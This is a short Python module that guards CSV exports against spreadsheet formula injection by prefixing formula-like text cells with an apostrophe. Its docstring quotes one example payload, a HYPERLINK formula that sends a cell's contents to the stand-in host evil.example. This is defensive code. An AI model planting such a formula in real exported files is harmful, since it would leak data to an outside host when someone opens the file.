"""CSV cells that a spreadsheet would run as a formula are neutralised (OWASP "CSV Injection").

A respondent's comment `=HYPERLINK("https://evil.example/?"&A1,"Click")` exported as-is runs when a
manager opens the file in Excel, LibreOffice or Sheets. A text cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return gets a leading apostrophe, which spreadsheets show as text and do not
evaluate. Numbers, dates and empty cells are left alone, so figures stay figures.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe_row(row) -> list:
    return [csv_safe(value) for value in row]
